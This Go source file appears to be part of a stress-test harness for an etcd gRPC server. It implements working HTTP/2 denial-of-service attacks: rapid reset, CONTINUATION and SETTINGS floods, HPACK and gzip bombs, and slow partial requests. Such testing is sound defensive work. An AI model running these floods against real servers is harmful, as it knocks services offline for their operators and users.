package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Attacks with HTTP/2 frames and partial requests, which no honest client sends.

// open connects to the client port, with TLS if the port uses it.
func (t *target) open(ctx context.Context) (net.Conn, error) {
	d := net.Dialer{Timeout: 5 * time.Second}
	conn, err := d.DialContext(ctx, "tcp", t.Client)
	if err != nil || t.CA == "" {
		return conn, err
	}
	pem, err := os.ReadFile(t.CA)
	if err != nil {
		return nil, err
	}
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(pem)
	secured := tls.Client(conn, &tls.Config{RootCAs: pool, ServerName: "127.0.0.1", NextProtos: []string{"h2"}})
	_ = secured.SetDeadline(time.Now().Add(10 * time.Second))
	if err := secured.HandshakeContext(ctx); err != nil {
		conn.Close()
		return nil, err
	}
	return secured, secured.SetDeadline(time.Time{})
}

// framer opens an HTTP/2 connection and sends the preface. If reading is true, what the server
// sends is read and discarded. The connection ends with ctx.
func (t *target) framer(ctx context.Context, reading bool) (*http2.Framer, io.Closer, error) {
	conn, err := t.open(ctx)
	if err != nil {
		return nil, nil, err
	}
	context.AfterFunc(ctx, func() { conn.Close() })
	if reading {
		go func() { _, _ = io.Copy(io.Discard, conn) }()
	}
	f := http2.NewFramer(conn, nil)
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		conn.Close()
		return nil, nil, err
	}
	return f, conn, f.WriteSettings()
}

// flood opens some connections, each of which repeats step until it fails and is then replaced.
func flood(ctx context.Context, t *target, c *counter, conns int, reading bool, step func(f *http2.Framer, n uint32) error) error {
	c.swarm(ctx, conns, func(ctx context.Context, _ int) error {
		f, conn, err := t.framer(ctx, reading)
		if err != nil {
			return err
		}
		defer conn.Close()
		for n := uint32(0); ctx.Err() == nil && n < 1<<29; n++ {
			if err := step(f, n); err != nil {
				return err
			}
			c.count(nil)
		}
		return nil
	})
	return nil
}

// request is the header block of a call; more are further headers.
func request(more ...hpack.HeaderField) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, h := range append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: "/etcdserverpb.KV/Range"},
		{Name: ":authority", Value: "x"}, {Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
	}, more...) {
		_ = e.WriteField(h) // into memory
	}
	return b.Bytes()
}

func rapidReset(ctx context.Context, t *target, c *counter) error {
	block := request()
	body := []byte{0, 0, 0, 0, 3, 0x0a, 1, 'k'}
	return flood(ctx, t, c, 8, true, func(f *http2.Framer, n uint32) error {
		id := 2*n + 1
		return errors.Join(
			f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}),
			f.WriteData(id, true, body),
			f.WriteRSTStream(id, http2.ErrCodeCancel))
	})
}

// unreadAnswers asks in 19 bytes for each answer, and does not even read the headers of one.
func unreadAnswers(ctx context.Context, t *target, c *counter) error {
	block := request()
	key := []byte("pub/0000000")
	message := append([]byte{0, 0, 0, 0, byte(2 + len(key)), 0x0a, byte(len(key))}, key...)
	return flood(ctx, t, c, 4, false, func(f *http2.Framer, n uint32) error {
		id := 2*n + 1
		return errors.Join(
			f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}),
			f.WriteData(id, true, message))
	})
}

func continuation(ctx context.Context, t *target, c *counter) error {
	first := request()
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for range 100 {
		_ = e.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 100), Sensitive: true})
	}
	return flood(ctx, t, c, 8, true, func(f *http2.Framer, n uint32) error {
		if n == 0 {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: first})
		}
		return f.WriteContinuation(1, false, b.Bytes())
	})
}

func settingsFlood(ctx context.Context, t *target, c *counter) error {
	return flood(ctx, t, c, 8, false, func(f *http2.Framer, n uint32) error {
		return errors.Join(f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20}), f.WritePing(false, [8]byte{}))
	})
}

// headerBomb refers to one long header again and again by its index in the compression table.
func headerBomb(ctx context.Context, t *target, c *counter) error {
	var b bytes.Buffer
	b.Write(request())
	e := hpack.NewEncoder(&b)
	for range 1100 {
		_ = e.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 3900)})
	}
	block := b.Bytes()
	return flood(ctx, t, c, 8, true, func(f *http2.Framer, n uint32) error {
		if n > 0 {
			// The table of the first block applies to the others of its connection: one is enough.
			return errors.New("once")
		}
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndHeaders: true, EndStream: true})
	})
}

func tlsPings(ctx context.Context, t *target, c *counter) error {
	return flood(ctx, t, c, 20, true, func(f *http2.Framer, _ uint32) error { return f.WritePing(false, [8]byte{}) })
}

// begun has so many connections on which send has written something, however often one is closed.
func begun(ctx context.Context, c *counter, conns int, send func(ctx context.Context) (net.Conn, error)) {
	held := make(chan struct{}, conns)
	c.swarm(ctx, 16, func(ctx context.Context, _ int) error {
		select {
		case held <- struct{}{}:
		case <-ctx.Done():
			return nil
		}
		conn, err := send(ctx)
		if err != nil {
			if conn != nil {
				conn.Close()
			}
			<-held
			return err
		}
		go func() { // one that the member closes is replaced
			stop := context.AfterFunc(ctx, func() { conn.Close() })
			defer stop()
			_, _ = io.Copy(io.Discard, conn)
			conn.Close()
			<-held
		}()
		return nil
	})
}

// unended begins a header block, and sends parts of it that do not end it.
func unended(ctx context.Context, t *target, parts int, part []byte) (net.Conn, error) {
	conn, err := t.open(ctx)
	if err != nil {
		return nil, err
	}
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return conn, err
	}
	f := http2.NewFramer(conn, nil)
	err = errors.Join(f.WriteSettings(), f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: request()}))
	for i := 0; i < parts && err == nil; i++ {
		err = f.WriteContinuation(1, false, part)
	}
	return conn, err
}

func tlsPrefaces(ctx context.Context, t *target, c *counter) error {
	part := make([]byte, 16<<10)
	begun(ctx, c, t.sized(1000, 50), func(ctx context.Context) (net.Conn, error) { return unended(ctx, t, 15, part) })
	return nil
}

func callHeaders(ctx context.Context, t *target, c *counter) error {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for range 70 {
		_ = e.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 300), Sensitive: true}) // into memory
	}
	begun(ctx, c, t.sized(1000, 50), func(ctx context.Context) (net.Conn, error) { return unended(ctx, t, 15, b.Bytes()) })
	return nil
}

func http1Headers(ctx context.Context, t *target, c *counter) error {
	lines := []byte("GET / HTTP/1.1\r\nHost: x\r\n")
	for i := 0; len(lines) < 900<<10; i++ {
		lines = fmt.Appendf(lines, "%x: %s\r\n", i, strings.Repeat("y", 1000))
	}
	begun(ctx, c, t.sized(1000, 50), func(ctx context.Context) (net.Conn, error) {
		conn, err := t.open(ctx)
		if err != nil {
			return nil, err
		}
		_, err = conn.Write(lines)
		return conn, err
	})
	return nil
}

// post sends a gRPC request with a body of our own, by a client that obeys HTTP/2's rules.
func post(ctx context.Context, client *http.Client, t *target, body io.Reader, header ...string) error {
	r, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+t.Client+"/etcdserverpb.KV/Put", body)
	if err != nil {
		return err
	}
	r.Header.Set("Content-Type", "application/grpc")
	r.Header.Set("Te", "trailers")
	for i := 0; i < len(header); i += 2 {
		r.Header.Set(header[i], header[i+1])
	}
	resp, err := client.Do(r)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	_, err = io.Copy(io.Discard, resp.Body)
	return err
}

// plainHTTP2 is a client of HTTP/2 without TLS, with connections of its own.
func plainHTTP2() *http.Client {
	var only http.Protocols
	only.SetUnencryptedHTTP2(true)
	return &http.Client{Transport: &http.Transport{Protocols: &only}}
}

// waiting is a reader that never ends before ctx does.
type waiting struct{ ctx context.Context }

func (w waiting) Read([]byte) (int, error) { <-w.ctx.Done(); return 0, w.ctx.Err() }

func halfMessages(ctx context.Context, t *target, c *counter) error {
	const size = 1_900_000
	prefix := binary.BigEndian.AppendUint32([]byte{0}, size)
	clients := []*http.Client{plainHTTP2(), plainHTTP2(), plainHTTP2(), plainHTTP2(), plainHTTP2()}
	c.swarm(ctx, t.sized(500, 50), func(ctx context.Context, i int) error {
		return post(ctx, clients[i%len(clients)], t, io.MultiReader(bytes.NewReader(prefix), io.LimitReader(letters{}, size-1), waiting{ctx}))
	})
	return nil
}

// announcedMessages announces long messages in five bytes each and takes them back when there are many.
func announcedMessages(ctx context.Context, t *target, c *counter) error {
	const most = 50 // of a connection
	block := request()
	prefix := binary.BigEndian.AppendUint32([]byte{0}, 1_900_000)
	return flood(ctx, t, c, t.sized(100, 20), true, func(f *http2.Framer, n uint32) error {
		id := 2*n + 1
		err := errors.Join(f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}), f.WriteData(id, false, prefix))
		if n >= most {
			err = errors.Join(err, f.WriteRSTStream(id-2*most, http2.ErrCodeCancel))
			pause(ctx, 10*time.Millisecond)
		}
		return err
	})
}

// letters is an endless text.
type letters struct{}

func (letters) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = 'a'
	}
	return len(p), nil
}

func gzipBomb(ctx context.Context, t *target, c *counter) error {
	var b bytes.Buffer
	w, err := gzip.NewWriterLevel(&b, gzip.BestCompression)
	if err != nil {
		return err
	}
	if _, err := w.Write(make([]byte, 10*mib)); err != nil {
		return err
	}
	if err := w.Close(); err != nil {
		return err
	}
	// Texts that were compressed one by one can be concatenated.
	packed := bytes.Repeat(b.Bytes(), t.sized(20, 5))
	message := append(binary.BigEndian.AppendUint32([]byte{1}, uint32(len(packed))), packed...)
	client := plainHTTP2()
	c.swarm(ctx, 16, func(ctx context.Context, _ int) error {
		return post(ctx, client, t, bytes.NewReader(message), "Grpc-Encoding", "gzip")
	})
	return nil
}
